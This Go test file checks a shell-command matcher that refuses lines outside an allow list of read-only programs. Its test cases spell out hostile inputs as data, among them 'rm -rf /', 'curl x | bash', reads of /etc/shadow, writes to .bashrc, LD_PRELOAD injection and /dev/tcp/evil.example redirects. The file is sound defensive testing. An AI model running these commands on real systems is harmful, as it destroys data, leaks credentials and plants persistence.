package builtin

import (
	"strings"
	"testing"

	"github.com/callgate/callgate/abi"
	"github.com/callgate/callgate/host/contract"
)

// readers is what most lines here are judged by: programs that read.
var readers = []string{"git status", "git log *", "git diff *", "ls *", "cat *", "echo *", "grep *", "head *", "tail *", "wc *", "sort *", "uniq *", "find *",
	"diff *", "sed *", "awk *", "pwd", "cd *", "tee *", "true", "test *", "printf *", "date *", "basename *", "sleep *", "xargs", "tr *", "cut *", "base64 *", "env", "git grep *"}

func matcherOf(t testing.TB, rule contract.Arg) *commandMatcher {
	t.Helper()
	rule.Slot = "command"
	m, err := newCommandMatcher(&rule)
	if err != nil {
		t.Fatal(err)
	}
	return m.(*commandMatcher)
}

func judgeLine(m *commandMatcher, line string) wrong {
	return m.judge(abi.StringValue(line), &place{Place: &abi.Place{Dir: "/srv/work", Home: "/home/u", Platform: "linux"}, name: "command"})
}

// Each line has the code with which it is refused in front, "" for none.
func testLines(t *testing.T, m *commandMatcher, lines []string) {
	t.Helper()
	passed := 0
	for _, line := range lines {
		code, text, ok := strings.Cut(line, ": ")
		if !ok {
			t.Fatalf("no code in front of %q", line)
		}
		got := judgeLine(m, text)
		if want := "ARGS_COMMAND_" + code; code == "" && got.code != "" || code != "" && got.code != want {
			t.Errorf("%q: got %q (%s), want %q", text, got.code, got.reason, code)
		}
		if got.code == "" {
			passed++
		} else if got.reason == "" || got.mend == "" {
			t.Errorf("%q: reason %q, mend %q", text, got.reason, got.mend)
		}
	}
	if passed == 0 || passed == len(lines) {
		t.Errorf("%d of %d lines pass; want some, and not all", passed, len(lines))
	}
}

func TestEverySimpleCommandMustBeAllowed(t *testing.T) {
	testLines(t, matcherOf(t, contract.Arg{HasAllow: true, Allow: readers}), []string{
		": git status", "OUTSIDE: git status -s", "OUTSIDE: git push", "OUTSIDE: git", "OUTSIDE: gitt status", "OUTSIDE: ./git status", "OUTSIDE: GIT status",
		": git log", ": git log --oneline -n 5", ": git log --grep \"rm -rf /\"", ": echo 'a; rm b'", ": echo \"a && rm b\"", `: echo a\;rm`,
		"OUTSIDE: ls; rm x", "OUTSIDE: ls && rm x", "OUTSIDE: ls || rm x", "OUTSIDE: ls | rm x", "OUTSIDE: ls & rm x", "OUTSIDE: ls\nrm x", "OUTSIDE: ls |& rm x",
		": ls; cat x", ": ls && cat x || echo no", ": ls | sort | uniq -c", ": ls &", ": ls\ncat x\n", ": ls |& sort",
		"OUTSIDE: echo $(rm x)", "OUTSIDE: echo `rm x`", "OUTSIDE: echo \"$(rm x)\"", "OUTSIDE: echo \"`rm x`\"", "OUTSIDE: cat <(rm x)", "OUTSIDE: echo > >(rm x)",
		": echo $(date)", ": echo `date`", ": echo \"on $(date)\"", ": diff <(ls a) <(ls b)", ": echo '$(rm x)'", ": echo '`rm x`'",
		"OUTSIDE: (rm x)", "OUTSIDE: { rm x; }", "OUTSIDE: if rm x; then ls; fi", "OUTSIDE: if ls; then rm x; fi", "OUTSIDE: if ls; then ls; else rm x; fi",
		"OUTSIDE: while rm x; do ls; done", "OUTSIDE: until ls; do rm x; done", "OUTSIDE: for f in *; do rm $f; done", "OUTSIDE: case a in a) rm x;; esac",
		"OUTSIDE: for f in $(rm x); do ls; done", "OUTSIDE: select f in a; do rm x; done", "OUTSIDE: f() { rm x; }; f", "OUTSIDE: function f { rm x; }",
		": (ls; cat x)", ": { ls; cat x; }", ": if test -f x; then cat x; else ls; fi", ": for f in a b; do cat \"$f\"; done", ": case a in a) ls;; *) cat x;; esac",
		": while true; do sleep 1; done", ": f() { cat x; }; f", "DYNAMIC: f; f() { cat x; }", "DYNAMIC: test -f x && f() { cat x; }; f", "DYNAMIC: ls() { cat x; }; ls",
		"OUTSIDE: ! rm x", ": ! ls", "OUTSIDE: time rm x", ": time ls", ": time -p ls", "OUTSIDE: coproc rm x", ": coproc cat",
		"OUTSIDE: cat <<EOF\n$(rm x)\nEOF", "OUTSIDE: cat <<EOF\n`rm x`\nEOF", ": cat <<'EOF'\n$(rm x)\nEOF", ": cat <<EOF\nrm x\nEOF", "OUTSIDE: cat <<EOF\na\nEOF\nrm x",
		"OUTSIDE: cat <<< $(rm x)", ": cat <<< 'rm x'", "OUTSIDE: echo ${x:-$(rm x)}", "OUTSIDE: echo $((1+$(rm x)))", "OUTSIDE: a=$(rm x); ls", "OUTSIDE: [[ -f $(rm x) ]] && ls",
		"OUTSIDE: [[ a || rm ]]", "OUTSIDE: ((rm))", ": [[ -f x ]] && ls", "SYNTAX: ls 'a", "SYNTAX: ls (a", "SYNTAX: ls )", "SYNTAX: if ls", "OUTSIDE: # ls",
		"SYNTAX: cat =(rm x)", "UNDECIDABLE: ls # ; rm x", "UNDECIDABLE: ls # a \\\nrm x", ": ls # all of it", "OUTSIDE: ", "OUTSIDE:  ", "OUTSIDE: eval ''", "OUTSIDE: env -i", "OUTSIDE: sh -c ''", "OUTSIDE: mapfile -C rm x",
	})
}

func TestWhatCannotBeKnownIsRefused(t *testing.T) {
	testLines(t, matcherOf(t, contract.Arg{HasAllow: true, Allow: readers}), []string{
		"DYNAMIC: $X", "DYNAMIC: ${X} a", "DYNAMIC: $(echo rm) x", "DYNAMIC: `echo rm` x", "DYNAMIC: l* x", "DYNAMIC: \"$X\" a", "DYNAMIC: {rm,x}", "DYNAMIC: l$X",
		"DYNAMIC: $'ls'", "DYNAMIC: ${UNSET_X:-rm} x", ": \"ls\" a", ": l's' a", `: \ls a`, ": echo $X", ": echo \"${HOME}\"", ": ls *.go", ": ls {a,b}",
		"OUTSIDE: r''m -rf /", "OUTSIDE: /bin/rm x", "OUTSIDE: ~/ls", "OUTSIDE: source x", "OUTSIDE: . x", "OUTSIDE: eval \"rm x\"", ": eval \"ls x\"", "DYNAMIC: eval \"$X\"",
		"DYNAMIC: eval $X", "OUTSIDE: alias ls=rm", "OUTSIDE: trap 'rm x' EXIT", "OUTSIDE: hash -p /tmp/x ls", "OUTSIDE: exec rm x", ": exec ls",
		"UNDECIDABLE: ls\rrm x", "UNDECIDABLE: ls \x1b[A", "UNDECIDABLE: ls\x00", "UNDECIDABLE: ls \\\r\nrm x", "UNDECIDABLE: ls @(a|b)", "UNDECIDABLE: echo ${x@P}", "UNDECIDABLE: echo ${!x}",
		"UNDECIDABLE: echo \"${x:-'a'}\"", "UNDECIDABLE: echo `echo \\`ls\\``", "UNDECIDABLE: x='a[$(rm x)]'; echo $((x))", ": i=1; echo $((i))", "UNDECIDABLE: echo ${a[$x]}",
		"UNDECIDABLE: [[ -v 'a[$(rm x)]' ]]", "UNDECIDABLE: test -v 'a[$(rm x)]'", "UNDECIDABLE: cat <<EOF\nEO\\\nF\nEOF", "UNDECIDABLE: cat <<EOF\nEOF \nrm x\nEOF", "SYNTAX: cat <<$X\na\n$X",
		": echo ${#x} ${x} ${x:-a}", ": echo $((1 + 2))", "UNDECIDABLE: " + "ls " + strings.Repeat("$(", 10000) + strings.Repeat(")", 10000),
		"DYNAMIC: " + strings.Repeat("env ", 2000) + "ls", "UNDECIDABLE: " + strings.Repeat("ls; ", 5000) + "ls", ": " + strings.Repeat("ls; ", 400) + "ls", "UNDECIDABLE: ls " + strings.Repeat("a", 70000), ": ls " + strings.Repeat("a", 60000), "OUTSIDE: echo $'a\\'; rm x #'",
	})
}

func TestVariablesAreRefusedUnlessListed(t *testing.T) {
	testLines(t, matcherOf(t, contract.Arg{HasAllow: true, Allow: readers, Env: []string{"CI", "LC_ALL=C"}}), []string{
		"ENV: LD_PRELOAD=/tmp/x.so ls", "ENV: PATH=/tmp ls", "ENV: PATH=/tmp; ls", "ENV: GIT_SSH_COMMAND=rm git log", "ENV: PAGER=rm git log", "ENV: env PAGER=rm git log",
		"ENV: env -i LD_PRELOAD=x ls", "ENV: for PATH in /tmp; do ls; done", "ENV: echo ${PATH:=/tmp}; ls", "ENV: echo $((PATH=1))", "OUTSIDE: export PATH", "ENV: LC_ALL=de ls",
		"ENV: x=1 ls", ": x=1; ls $x", ": CI=1 ls", ": LC_ALL=C ls", ": env CI=1 ls", ": env -i ls", ": env -u PATH ls", ": for f in a; do ls; done", "ENV: path=/tmp; ls", "ENV: http_proxy=x; ls",
		"ENV: export CI=1 PATH=/tmp", "ENV: {PATH}>/dev/null ls", "ENV: coproc PATH { ls; }", "ENV: LD_PRELOAD+=x ls", "ENV: IFS=x; ls",
		"ENV: printf -v PATH /tmp; ls", "ENV: printf -vPATH /tmp; ls", "ENV: builtin printf -v LD_PRELOAD x", "ENV: printf -v 'PATH[0]' x", "UNDECIDABLE: printf -v $X y",
		": printf -v x y", ": printf '%s' PATH", ": printf -- -v PATH", ": printf '-v' x y", ": printf -v CI 1", "ENV: command export PATH=/tmp",
	})
	testLines(t, matcherOf(t, contract.Arg{HasAllow: true, Allow: append([]string{"read *", "unset *", "mapfile *", "getopts *"}, readers...)}), []string{
		"ENV: read PATH", "ENV: read -r x PATH < /dev/null", "ENV: echo /tmp | read -r PATH", "ENV: unset PATH", "ENV: mapfile -t PATH", "ENV: getopts ab PATH", "UNDECIDABLE: read $X", "UNDECIDABLE: read {a,PATH}",
		": read -r line", ": cat f | while read -r a b; do echo $a; done", ": unset x", ": mapfile -t lines", ": getopts AB opt",
	})
}

func TestWrappersAreReadThrough(t *testing.T) {
	testLines(t, matcherOf(t, contract.Arg{HasAllow: true, Allow: append([]string{"sudo *", "bash *", "docker *", "strace -c ls *", "sudo systemctl restart *", "parallel *"}, readers...)}), []string{
		"OUTSIDE: env rm x", ": env ls x", ": env", "OUTSIDE: env -S 'rm x'", ": env -S 'ls x'", "OUTSIDE: env -iS'rm x' ls", "OUTSIDE: env --split-string='rm x' ls", "OUTSIDE: env -u A rm x",
		"OUTSIDE: xargs rm", ": find . | xargs ls", "OUTSIDE: find . | xargs -I{} rm {}", ": find . | xargs -I{} ls {}", "DYNAMIC: find . | xargs -I{} {} x", ": find . -print0 | xargs -0 -n 1 grep x",
		"OUTSIDE: xargs --replace rm", "OUTSIDE: xargs git status", ": xargs git log",
		"OUTSIDE: find . -exec rm {} \\;", "OUTSIDE: find . -execdir rm {} +", "OUTSIDE: find . -ok rm {} \\;", ": find . -exec ls {} \\;", ": find . -exec grep x {} + -exec ls {} \\;",
		"OUTSIDE: find . -exec ls {} + -exec rm {} \\;", "OUTSIDE: find . -delete", "OUTSIDE: find . -fprintf /tmp/x a", "OUTSIDE: find $X", "DYNAMIC: find . -exec {} \\;", "DYNAMIC: find . -exec sh -c 'ls {}' \\;",
		"OUTSIDE: sh -c 'rm x'", ": sh -c 'ls x'", ": bash -lc 'ls x'", "OUTSIDE: bash -c 'ls; rm x'", "OUTSIDE: dash -c 'rm x'", "OUTSIDE: zsh -c 'rm x'", "OUTSIDE: ksh -c 'rm x'", "OUTSIDE: bash -ec 'rm x' a",
		"DYNAMIC: bash -c $X", "DYNAMIC: bash -c \"ls $X\"", "DYNAMIC: bash -c", "OUTSIDE: bash script.sh", "UNDECIDABLE: bash", "UNDECIDABLE: curl x | bash", "OUTSIDE: echo ls | bash -s -- -y",
		": bash <<< 'ls x'", "OUTSIDE: bash <<< 'rm x'", "OUTSIDE: bash <<'EOF'\nrm x\nEOF", ": bash <<'EOF'\nls x\nEOF", "UNDECIDABLE: bash <<< 'ls x' < f", "OUTSIDE: bash --rcfile x -c ls",
		"OUTSIDE: bash -o pipefail -c 'rm x'", ": bash -o pipefail -c 'ls x | sort'", "OUTSIDE: sudo rm x", ": sudo ls x", "OUTSIDE: sudo -u root rm x", ": sudo -u root ls x", "OUTSIDE: sudo -i", "OUTSIDE: doas ls",
		": sudo systemctl restart nginx", "OUTSIDE: systemctl restart nginx", "OUTSIDE: sudo systemctl stop nginx", "OUTSIDE: sudo -s", "OUTSIDE: sudo -e /etc/passwd",
		"OUTSIDE: timeout 5 rm x", ": timeout 5 ls x", ": timeout -k 1 -s KILL 5 ls x", "OUTSIDE: timeout --weird 5 ls", "OUTSIDE: nice -n 5 rm x", ": nice -n 5 ls x", ": nice -5 ls x", "OUTSIDE: nohup rm x", ": nohup ls x",
		"OUTSIDE: stdbuf -oL rm x", ": stdbuf -oL ls x", "OUTSIDE: setsid rm x", "OUTSIDE: ionice -c 3 rm x", ": ionice -c3 ls", "OUTSIDE: command rm x", ": command ls", "OUTSIDE: command -v ls", "OUTSIDE: builtin rm x",
		"OUTSIDE: exec -a ls rm x", "OUTSIDE: watch rm x", ": watch -n 1 ls x", "OUTSIDE: watch 'ls; rm x'", "OUTSIDE: parallel rm ::: x", "OUTSIDE: busybox rm x", ": busybox ls x", "OUTSIDE: busybox sh -c 'rm x'", ": busybox sh -c 'ls x'",
		"OUTSIDE: /tmp/env ls x", "OUTSIDE: ./bash -c 'ls x'", "OUTSIDE: ENV ls x", "OUTSIDE: env.sh ls x", "OUTSIDE: /usr/bin/env rm x", ": /usr/bin/env ls x", "OUTSIDE: nice env timeout 5 sh -c 'rm x'", ": nice env timeout 5 sh -c 'ls x'", "OUTSIDE: strace ls x", "OUTSIDE: strace -o x -c ls", "OUTSIDE: strace -c ls x",
		"OUTSIDE: bash -c \"bash -c 'rm x'\"", ": bash -c \"bash -c 'ls x'\"", ": docker run x", "OUTSIDE: python3 -c 'ls'", "OUTSIDE: ssh host ls",
	})
}

func TestProgramsThatOnlyReadStayReaders(t *testing.T) {
	testLines(t, matcherOf(t, contract.Arg{HasAllow: true, Allow: append([]string{"sed -i s/a/b/ f", "git *", "go *"}, readers...)}), []string{
		": sed -n '1,20p' notes.txt", ": sed 's/a/b/g' f", ": sed -E -e 's/(a)/b/' -e '$d' f", ": sed '/x/,/y/p' f", ": sed -n '/x/{p;q}' f", ": sed 's,a,b,; s|c|d|' f", ": sed -i s/a/b/ f",
		"OUTSIDE: sed -n 'w /home/agent/.bashrc' payload.txt", "OUTSIDE: sed 's/a/b/w /tmp/x' f", "OUTSIDE: sed -i s/a/c/ f", "OUTSIDE: sed --in-p s/a/b/ f", "OUTSIDE: sed '1e id' f", "OUTSIDE: sed 's/a/b/e' f", "OUTSIDE: sed -ni p f",
		"OUTSIDE: sed -f x f", "OUTSIDE: sed '/[/]w x/p' f", "OUTSIDE: sed -e p -e 'w x' f", "OUTSIDE: sed p f -i", "OUTSIDE: sed $X f", "OUTSIDE: sed '1!w x' f", "OUTSIDE: sed 'r /etc/shadow' f",
		": awk '{print $1; print $2}' data.txt", ": awk -F: '/a|b/ {print $1}' f", ": awk '$1 > 5' f", ": awk -v n=1 'NR==n || /x/' f", ": awk '{print \"a|b > c\"}' f",
		"OUTSIDE: awk 'BEGIN{system(\"id\")}'", "OUTSIDE: awk '{print > \"x\"}' f", "OUTSIDE: awk '{print | \"sh\"}' f", "OUTSIDE: awk '{\"id\" | getline}' f", "OUTSIDE: awk -f x f", "OUTSIDE: awk 'x=(1)/system(\"id\")/1' f", "OUTSIDE: awk $X f",
		": go test ./... -run X -v", ": go build -ldflags '-X main.v=1' ./cmd/a", ": go vet ./...", ": go test -execute x", ": go test -- -exec x", "OUTSIDE: go test -exec sh ./...", "OUTSIDE: go test --exec=sh ./...",
		"OUTSIDE: go build -toolexec=/tmp/x", "OUTSIDE: go test -toolexec 'sh -c id' ./...", "OUTSIDE: go vet -vettool=/tmp/x", "OUTSIDE: go build -ldflags=-extld=/tmp/x", "OUTSIDE: go build -ldflags '-s -extld /tmp/x'",
		"OUTSIDE: go build -overlay /tmp/o.json", "OUTSIDE: go test -o /home/me/.local/bin/ls -c", "OUTSIDE: go env -w GOFLAGS=-toolexec=x", "ENV: GOFLAGS=-toolexec=x go test", "OUTSIDE: go test $X",
		": sort -k2 f", "OUTSIDE: sort -o x f", "OUTSIDE: sort -uo x f", "OUTSIDE: sort --outp=x f", "OUTSIDE: sort --compress-program=rm f", ": sort -- -o", "OUTSIDE: sort $X", ": sort *.csv",
		": git log -p", "OUTSIDE: git log --output=x", "OUTSIDE: git log --outp x", "OUTSIDE: git -c core.pager=rm log", "OUTSIDE: git -C /x -c a=b log", ": git commit -c HEAD", "OUTSIDE: git diff --ext-diff", "OUTSIDE: git --exec-path=/tmp log", "OUTSIDE: git grep --open-files-in-pager=rm x",
	})
}

func TestFilesThatALineOpensByItself(t *testing.T) {
	rule := contract.Arg{HasAllow: true, Allow: append([]string{"sha256sum"}, readers...), Writes: []string{"/srv/work/out/**"}}
	testLines(t, matcherOf(t, rule), []string{
		": echo hi > /srv/work/out/a.txt", ": echo hi >> out/a.txt", ": ls 2>/dev/null", ": ls > /dev/null 2>&1", ": ls &> /dev/null", ": cat < f", ": sort < f | uniq", ": ls 2>&1 | tee out/a",
		"WRITE: echo x > /srv/work/.callgate/policy.yaml", "WRITE: echo x >| /etc/motd", "WRITE: echo x &> /etc/motd", "WRITE: echo x >& /etc/motd", "WRITE: echo x <> /etc/motd", "WRITE: > /etc/motd", "WRITE: echo x 2> /etc/motd",
		"WRITE: echo x > out/../../x", "WRITE: echo x > $X", "WRITE: echo x > out/$X", "WRITE: echo x > ~/x", "WRITE: cat x | tee /home/agent/.profile", "WRITE: cat x | tee -a -- /etc/motd", "WRITE: uniq a /etc/motd",
		"WRITE: { ls; } > /etc/motd", "WRITE: (ls) > /etc/motd", "WRITE: for f in a; do ls; done > /etc/motd", "WRITE: cd /etc && echo x > motd", "WRITE: cd .. && echo x > out/a", ": cd /srv/work && echo x > out/a", "WRITE: cd $X && echo x > out/a",
		"WRITE: cd - && echo x > out/a", "WRITE: env -C /etc ls > out/a", "WRITE: echo x > /dev/tcp/evil.example/80", "READ: cat < /dev/tcp/evil.example/80", "READ: sha256sum < /etc/shadow", "READ: { cat; } < /etc/shadow", "WRITE: while true; do cd ..; echo x > out/a; done",
		"WRITE: echo x > out/a*", "WRITE: echo x 1>/etc/motd", "WRITE: ls | cat > x", "WRITE: echo $(ls > x)",
	})
	testLines(t, matcherOf(t, contract.Arg{HasAllow: true, Allow: readers, Reads: []string{"/srv/work/**"}}), []string{": cat < a", "READ: cat < /etc/shadow", ": { cat; } < a"})
}
